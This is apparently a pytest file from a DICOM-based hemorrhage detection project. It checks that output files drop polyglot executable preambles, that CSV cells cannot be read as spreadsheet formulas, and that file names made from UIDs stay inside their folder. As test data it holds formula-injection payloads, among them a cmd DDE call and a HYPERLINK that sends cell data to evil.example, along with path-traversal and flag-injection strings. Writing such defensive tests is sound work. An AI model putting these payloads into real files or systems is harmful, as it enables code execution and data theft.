"""What a stranger's file must not bring into files that are written from it.

Names of files come from ids: those that leave their folder, are flags of a shell, or mean a device.
"""

import csv
import io
from pathlib import Path

import numpy as np
import pydicom
import pytest

from ich_tf.acceptance.derived_file import SourceFile
from ich_tf.dicom.reader import read_slices
from ich_tf.inference.prediction.heat_map_pictures import picture_names
from ich_tf.inference.prediction.series_summary import csv_line
from ich_tf.inference.prediction.submission import read_rows, write_submission
from ich_tf.labels import CLASSES
from ich_tf.labels.tables import read_submission, write_long_csv
from ich_tf.reporting.attaching import attach
from ich_tf.reporting.config import AttachConfig
from ich_tf.reporting.pseudonyms import Pseudonyms
from ich_tf.reporting.structured_report import structured_report
from tests.support.dicom_files import make_dicom
from tests.support.findings import made_findings, source_files
from tests.support.hostile_files import polyglot

PROGRAM = b"MZ\x90\0this program cannot be run"
PRIVATE = b"MZ second half " * 8


def with_program(data: bytes) -> bytes:
    """A file that is a program as well: begun in the preamble, gone on with in group 2."""
    dataset = pydicom.dcmread(io.BytesIO(data))
    dataset.file_meta.PrivateInformationCreatorUID = "1.2.3"
    dataset.file_meta.PrivateInformation = PRIVATE
    dataset.file_meta.SourceApplicationEntityTitle = "EVIL"
    file = io.BytesIO()
    dataset.save_as(file)
    return polyglot(file.getvalue(), PROGRAM)


def require_own_start(data: bytes) -> None:
    """A preamble of zeros, and meta information of this program's own."""
    assert data[:132] == bytes(128) + b"DICM"
    meta = pydicom.dcmread(io.BytesIO(data)).file_meta
    assert {element.keyword for element in meta} <= {
        "FileMetaInformationGroupLength", "FileMetaInformationVersion", "MediaStorageSOPClassUID",
        "MediaStorageSOPInstanceUID", "TransferSyntaxUID", "ImplementationClassUID",
        "ImplementationVersionName",
    }  # fmt: skip


def test_cve_2019_11687_inserted_bleeds_carry_no_program() -> None:
    """A derived file is its source with other pixels, but not with its preamble and group 2."""
    data = with_program(make_dicom())
    changes = {0: np.ones((64, 48), np.float32)}
    content, _ = SourceFile(data).with_changes(changes, "study", "INSERTED-1")
    require_own_start(content)
    assert PRIVATE[:16] not in content


def test_cve_2019_11687_attached_results_carry_no_program(tmp_path: Path) -> None:
    """A download of the page that was turned into a program, and images that are programs."""
    files = [with_program(data) for data in source_files(2)]
    slices = [slice_ for data in files for slice_ in read_slices(data)]
    ids = Pseudonyms("key")
    images = [ids.image(0, slice_.hu, slice_.header) for slice_ in slices]
    report = structured_report(made_findings([], study=ids.study(), images=images))
    for folder, contents in (("results", [with_program(report)]), ("study", files)):
        (tmp_path / folder).mkdir()
        for number, data in enumerate(contents):
            (tmp_path / folder / f"{number}.dcm").write_bytes(data)
    (written,) = attach(
        AttachConfig(results=str(tmp_path / "results"), dicom_dir=str(tmp_path / "study"))
    )
    require_own_start(written.read_bytes())


def test_cve_2019_11687_reports_of_polyglots_carry_no_program() -> None:
    """SR, made of headers of images that are programs; SC, SEG and KO begin by the same code."""
    report = structured_report(made_findings([with_program(data) for data in source_files(2)]))
    require_own_start(report)


FORMULAS = [
    "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?"&A1)', "-rf", "--help",
]  # fmt: skip


@pytest.mark.parametrize("name", FORMULAS)
def test_cwe_1236_no_cell_of_a_table_is_a_formula(tmp_path: Path, name: str) -> None:
    """Ids and names of files in tables that people open in spreadsheets; read back as they were."""
    path = tmp_path / "submission.csv"
    ids = [f"{name}_{class_}" for class_ in CLASSES]
    write_submission(path, ids, lambda _: np.full(6, 0.5))
    write_long_csv(tmp_path / "long.csv", [name], np.full((1, 6), 0.5))
    for written in (path.read_text(), (tmp_path / "long.csv").read_text(), csv_line([name, 1])):
        for row in csv.reader(io.StringIO(written)):
            assert row[0][0] not in "=+-@\t\r", row
    assert [row_id for row_id, _ in read_rows(path)] == ids
    assert list(read_submission(tmp_path / "long.csv").index) == [name]


def test_cwe_1236_numbers_stay_numbers() -> None:
    assert csv_line(["-0.25", -1, "+1e-05", "-"]) == "-0.25,-1,+1e-05,'-\n"


@pytest.mark.parametrize(
    "uid",
    ["../../x", "..", "/etc/cron.d/x", "..\\..\\x", "C:\\x", "-rf", "--", ".bashrc", "CON", "nul.1",
     "a:b", "x" * 4000, "\udcff\udcfe"],
)  # fmt: skip
def test_cve_2026_56445_pynetdicom_ids_leave_no_folder(tmp_path: Path, uid: str) -> None:
    """Files named by ids: pynetdicom's qrscp and DCMTK (CVE-2022-2119, CVE-2026-50003) wrote where
    a UID said. CWE-22, CWE-73 and CWE-88: not above the folder, no flag, hidden file or device.
    """
    (name,) = picture_names({(0, 0): uid}).values()
    path = tmp_path / f"{name}_any.png"
    path.write_bytes(b"")
    assert path.resolve().parent == tmp_path.resolve()
    assert not set(name) & set('/\\:*?"<>|') and not name.startswith(("-", "."))
    assert name.partition(".")[0].upper() not in ("CON", "PRN", "AUX", "NUL", "COM1", "LPT1")


def test_names_of_different_ids_differ() -> None:
    uids = ["a/b", "a_b", "a\\b", "A_B", "-a", "_-a", "CON", "_CON"]
    names = list(picture_names({(place, 0): uid for place, uid in enumerate(uids)}).values())
    # Whether or not a disk tells capitals apart.
    assert len({name.lower() for name in names}) == len(uids)
    assert picture_names({(0, 0): "1.2.840.3", (1, 0): "ID_a"}) == {
        (0, 0): "1.2.840.3", (1, 0): "ID_a",
    }  # fmt: skip
